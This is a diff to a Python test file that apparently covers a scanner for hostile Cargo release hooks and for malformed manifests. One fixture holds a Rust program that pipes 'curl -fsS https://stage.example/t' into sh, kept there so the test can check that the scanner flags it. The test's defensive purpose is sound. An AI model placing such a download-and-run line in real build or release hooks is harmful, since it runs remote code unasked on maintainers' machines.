@@ -57,7 +57,7 @@ def test_a_program_a_hook_runs_is_build_code(tmp_path: Path) -> None:
     # the same download and run is one tactic in a program someone must start, and code
     # run unasked on the releasing maintainer's machine when a hook starts it
     payload = (
-        b"fn main() {\n    let _ = std::process::Command::new(\"sh\").arg(\"-c\")\n"
+        b'fn main() {\n    let _ = std::process::Command::new("sh").arg("-c")\n'
         b'        .arg("curl -fsS https://stage.example/t | sh").status();\n}\n'
     )
     manifest = b'[package]\nname = "f"\nversion = "1.0.0"\n[workspace]\nmembers = ["xtask"]\n'
@@ -72,3 +72,12 @@ def test_a_program_a_hook_runs_is_build_code(tmp_path: Path) -> None:
     hooked = scan_path(tmp_path / "hooked")
     assert hooked.verdict is Verdict.MALICIOUS
     assert {e.context.value for e in hooked.findings if e.file == "xtask/src/main.rs"} == {"build"}
+
+
+def test_hostile_manifests_are_refused_not_raised() -> None:
+    deep = b'[package]\nname = "x"\nversion = "1"\nv = ' + b"[" * 20_000 + b"]" * 20_000
+    hook = b'[package.metadata.release]\npre-release-hook = ["cargo", "xtask"]\n'
+    files = {"Cargo.toml": deep + b"\n" + hook, "xtask/Cargo.toml": deep, **XTASK}
+    files["tools/Cargo.toml"] = b"\xff\xfe not utf-8"
+    assert hook_programs(files) == ()
+    assert hook_programs({**files, "Cargo.toml": hook}) == ("xtask/src/main.rs",)
